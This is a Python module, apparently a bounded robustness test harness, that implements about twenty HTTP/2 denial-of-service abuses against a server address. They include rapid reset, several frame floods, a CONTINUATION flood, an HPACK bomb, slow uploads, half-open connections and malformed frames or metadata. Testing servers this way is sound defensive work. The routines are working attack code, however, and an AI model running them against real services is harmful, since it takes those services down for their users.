"""Abuses of HTTP/2, each bounded in what it sends and how long it waits."""

from __future__ import annotations

import asyncio
import os
import random
import struct
from collections import Counter
from collections.abc import Awaitable, Callable

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from raw_http2 import MAX_FRAME_BYTES, PREFACE, RawAnswer, RawConnection, bare_connection, connect

NO_WINDOW = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
A_WHILE = 1.0
"""Seconds for which nothing is sent while connections or calls are held open."""

Counts = Counter[str]
Abuse = Callable[[str, str, bytes], Awaitable[Counts]]
"""From address, path of a method and a message for it to counts of what was sent and what came back."""


def note(counts: Counts, answer: RawAnswer) -> None:
    code = answer.code.name if answer.code else "unanswered" if answer.reset is None else f"reset {answer.reset}"
    counts[code] += 1


async def at_once(peer: RawConnection, data: bytes, times: int, counts: Counts) -> None:
    """Send many frames in large pieces until the peer closes or stops reading."""
    size = max(1, 2**18 // len(data))
    for start in range(0, times, size):
        number = min(size, times - start)
        peer.write(data * number)
        try:
            async with asyncio.timeout(3):
                if not await peer.drain():
                    counts["closed"] += 1
                    return
        except TimeoutError:
            counts["not read"] += 1
            return
        counts["sent"] += number


async def settled(peer: RawConnection, counts: Counts) -> None:
    """Wait until the peer has seen it all, or has closed."""
    try:
        async with asyncio.timeout(30):
            counts["alive" if await peer.round_trip() else "closed"] += 1
    except TimeoutError:
        counts["no longer read"] += 1


def flood(frame: bytes, times: int = 100_000) -> Abuse:
    async def abuse(address: str, path: str, message: bytes) -> Counts:
        counts = Counts()
        async with connect(address) as peer:
            stream = peer.open(path)  # some frames need one
            assert stream == 1
            await at_once(peer, frame, times, counts)
            await settled(peer, counts)
        return counts

    return abuse


async def rapid_reset(address: str, path: str, message: bytes) -> Counts:
    counts = Counts()
    async with connect(address) as peer:
        for _ in range(40):
            for _ in range(500):
                stream = peer.new_stream()
                body = struct.pack(">BI", 0, len(message)) + message
                peer.write(
                    HeadersFrame(stream, peer.headers(path), flags=["END_HEADERS"]),
                    DataFrame(stream, body, flags=["END_STREAM"]),
                    RstStreamFrame(stream, 8),
                )
                counts["sent"] += 1
            if not await peer.drain():
                break
        await settled(peer, counts)
    return counts


async def endless_headers(address: str, path: str, message: bytes) -> Counts:
    """CONTINUATION frames of a block that never ends, full ones and empty ones."""
    counts = Counts()
    for block, times in ((b"\0\x0511111\x0511111" * 1200, 4000), (b"", 100_000)):
        async with connect(address) as peer:
            peer.write(HeadersFrame(peer.new_stream(), peer.headers(path)))
            await at_once(peer, ContinuationFrame(1, block).serialize(), times, counts)
            await settled(peer, counts)
    return counts


async def hpack_bomb(address: str, path: str, message: bytes) -> Counts:
    """A value of 3 KiB in the table of the decoder, and blocks that name it 10,000 times each."""
    counts = Counts()
    async with connect(address) as peer:
        for number in range(100):
            block = peer.headers(path, (("x-bomb", "b" * 3000),) if number == 0 else ())
            stream = peer.new_stream()
            peer.write(HeadersFrame(stream, block + b"\xbe" * 10_000, flags=["END_HEADERS", "END_STREAM"]))
            counts["sent"] += 1
            if not await peer.drain():
                break
        await settled(peer, counts)
        for answer in peer.answers.values():
            note(counts, answer)
    return counts


async def half_open(address: str, path: str, message: bytes) -> Counts:
    """Connections that begin and do not go on, or speak something else."""
    counts = Counts()
    beginnings = (
        *(b"", PREFACE[:10], PREFACE, PREFACE + SettingsFrame().serialize()[:5]),
        *(b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03", os.urandom(100)),
        PREFACE + SettingsFrame().serialize() + b"\0\x40\0\x01\0\0\0\0\x01half a block",
    )

    async def hold(beginning: bytes) -> None:
        async with bare_connection(address) as peer:
            peer.write(beginning)
            peer.read_on()
            counts["sent"] += 1
            await asyncio.sleep(A_WHILE)
            counts["closed" if peer.closed.is_set() else "held"] += 1

    await asyncio.gather(*(hold(beginning) for beginning in beginnings * 25))
    return counts


async def window_0(address: str, path: str, message: bytes) -> Counts:
    """Calls whose answers have nowhere to go."""
    counts = Counts()
    async with connect(address, NO_WINDOW) as peer:
        for _ in range(400):
            await peer.call(path, message)
            counts["sent"] += 1
        await settled(peer, counts)
        await asyncio.sleep(A_WHILE)
    return counts


async def answers_not_read(address: str, path: str, message: bytes) -> Counts:
    """Calls on a connection from which nothing is read."""
    counts = Counts()
    async with connect(address, is_reading=False) as peer:
        for _ in range(400):
            stream = peer.open(path)
            peer.write(DataFrame(stream, struct.pack(">BI", 0, len(message)) + message, flags=["END_STREAM"]))
            counts["sent"] += 1
        await asyncio.sleep(A_WHILE)
    return counts


async def many_streams(address: str, path: str, message: bytes) -> Counts:
    """5,000 calls on one connection, all at once."""
    counts = Counts()
    async with connect(address) as peer:
        for _ in range(5000):
            stream = peer.open(path)
            peer.write(DataFrame(stream, struct.pack(">BI", 0, len(message)) + message, flags=["END_STREAM"]))
            counts["sent"] += 1
        await settled(peer, counts)
        await asyncio.sleep(A_WHILE)
        for answer in peer.answers.values():
            note(counts, answer)
    return counts


async def many_connections(address: str, path: str, message: bytes) -> Counts:
    counts = Counts()

    async def one() -> None:
        async with connect(address) as peer:
            stream = await peer.call(path, message)
            counts["sent"] += 1
            try:
                async with asyncio.timeout(30):
                    note(counts, await peer.answer(stream))
            except TimeoutError:
                counts["held"] += 1

    await asyncio.gather(*(one() for _ in range(200)))
    return counts


async def data_without_end(address: str, path: str, message: bytes) -> Counts:
    """Messages that are announced and come on and on: of 4 GiB, of 15 MiB, and many of no bytes."""
    counts = Counts()
    for announced in (2**32 - 1, 15 * 2**20, 0):
        async with connect(address) as peer:
            stream = peer.open(path)
            peer.write(DataFrame(stream, struct.pack(">BI", 0, announced)))
            try:
                async with asyncio.timeout(5):
                    for _ in range(16):
                        # As a message of its own each piece has a header, which those announced take for content.
                        await peer.send(stream, bytes(2**20), end=False)
                        counts["sent"] += 1
                        if peer.answers[stream].ended.is_set():
                            break
            except TimeoutError:
                counts["window kept shut"] += 1
            note(counts, peer.answers[stream])
    return counts


async def trailers(address: str, path: str, message: bytes) -> Counts:
    """Headers again after the message, twice, and with what only headers may have."""
    counts = Counts()
    async with connect(address) as peer:
        for number in range(200):
            stream = peer.open(path)
            await peer.send(stream, message, end=False)
            block = peer.encoder.encode([("x-trailer", "1")]) if number % 2 else peer.headers(path)
            for _ in range(2):
                peer.write(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
            counts["sent"] += 1
        await settled(peer, counts)
        for answer in peer.answers.values():
            note(counts, answer)
    return counts


async def frames_at_random(address: str, path: str, message: bytes) -> Counts:
    """Headers of frames that are none, with any type, flags, stream and length."""
    counts, rng = Counts(), random.Random(11)
    for _ in range(400):
        async with connect(address) as peer:
            peer.open(path)
            for _ in range(8):
                length = rng.choice((0, 1, 4, 5, 6, 8, 9, 100))
                said = length if rng.random() < 0.9 else rng.choice((2**14, 2**14 + 1, 2**24 - 1))
                stream = rng.choice((0, 1, 1, 2, 3, 2**31 - 1, 2**32 - 1))
                head = struct.pack(">I", said)[1:] + struct.pack(">BBI", rng.randrange(12), rng.randrange(256), stream)
                peer.write(head + rng.randbytes(length))
                counts["sent"] += 1
            async with asyncio.timeout(30):
                await peer.drain()
            await asyncio.sleep(0.002)
            counts["closed" if peer.closed.is_set() else "open"] += 1
    return counts


async def odd_metadata(address: str, path: str, message: bytes) -> Counts:
    """Metadata of many kilobytes, of bytes that are no text, and of numbers that are none."""
    counts = Counts()
    odd = (
        *(("x-long", "y" * size) for size in (4000, 8000, 20_000)),
        *(
            ("x-text", bytes(range(128, 256))),
            ("x-bin", "***"),
            ("traceparent", b"\xff" * 50),
            ("authorization", b"\xfe"),
        ),
        *(("grpc-timeout", text) for text in ("0n", "99999999H", "-1S", "1", "x", "", "999999999999999S")),
        *(("grpc-encoding", text) for text in ("gzip", "deflate", "nonsense")),
        *(
            ("content-type", "text/html"),
            ("te", "x"),
            ("", ""),
            (":path", "/"),
            ("X-Upper", "a"),
            ("connection", "close"),
        ),
    )

    async def one(fields: tuple[tuple[str, str | bytes], ...]) -> None:
        async with connect(address) as peer:  # some of them end the connection
            stream = await peer.call(path, message, fields)
            counts["sent"] += 1
            try:
                async with asyncio.timeout(3):
                    note(counts, await peer.answer(stream))
            except TimeoutError:
                counts["held"] += 1

    for repeats in (1, 2, 4):
        await asyncio.gather(*(one((field,) * repeats) for field in odd))
    return counts


async def slow_uploads(address: str, path: str, message: bytes) -> Counts:
    """Calls whose message comes a byte at a time, and does not end."""
    counts = Counts()
    async with connect(address) as peer:
        streams = [peer.open(path) for _ in range(200)]
        body = struct.pack(">BI", 0, 1000) + message[:10].ljust(10, b"\0")
        for byte in body:
            for stream in streams:
                peer.write(DataFrame(stream, bytes((byte,))))
                counts["sent"] += 1
            await peer.drain()
            await asyncio.sleep(A_WHILE / len(body))
        counts["held"] += sum(not peer.answers[stream].ended.is_set() for stream in streams)
    return counts


async def odd_messages(address: str, path: str, message: bytes) -> Counts:
    """Flags, lengths and numbers of messages that a call may not have."""
    counts = Counts()
    good = struct.pack(">BI", 0, len(message)) + message
    bodies = (
        *(b"", good[:3], good[:-1] if message else good[:-2], good * 2, good * 50, good + good[:3]),
        *(bytes((flag,)) + good[1:] for flag in (1, 2, 255)),
        struct.pack(">BI", 1, 30) + os.urandom(30),
    )
    async with connect(address) as peer:
        for _ in range(20):
            for body in bodies:
                stream = peer.open(path)
                for start in range(0, len(body) or 1, MAX_FRAME_BYTES):
                    piece = body[start : start + MAX_FRAME_BYTES]
                    is_last = start + MAX_FRAME_BYTES >= len(body)
                    peer.write(DataFrame(stream, piece, flags=["END_STREAM"] if is_last else []))
                counts["sent"] += 1
        await settled(peer, counts)
        await asyncio.sleep(A_WHILE)
        for answer in peer.answers.values():
            note(counts, answer)
    return counts


ABUSES: dict[str, Abuse] = {
    "rapid reset": rapid_reset,
    "PING flood": flood(PingFrame(0, b"12345678").serialize()),
    "SETTINGS flood": flood(
        SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1, SettingsFrame.HEADER_TABLE_SIZE: 0}).serialize()
    ),
    "PRIORITY flood": flood(PriorityFrame(1, depends_on=1).serialize() + PriorityFrame(9, depends_on=7).serialize()),
    "WINDOW_UPDATE flood": flood(WindowUpdateFrame(1, 1).serialize()),
    "window overflow": flood(WindowUpdateFrame(0, 2**31 - 1).serialize(), 100),
    "RST_STREAM flood": flood(RstStreamFrame(1, 8).serialize()),
    "empty DATA flood": flood(DataFrame(1, b"").serialize()),
    "endless headers": endless_headers,
    "HPACK bomb": hpack_bomb,
    "half open": half_open,
    "window 0": window_0,
    "answers not read": answers_not_read,
    "5,000 streams": many_streams,
    "many connections": many_connections,
    "DATA without end": data_without_end,
    "trailers": trailers,
    "frames at random": frames_at_random,
    "odd metadata": odd_metadata,
    "slow uploads": slow_uploads,
    "odd messages": odd_messages,
}
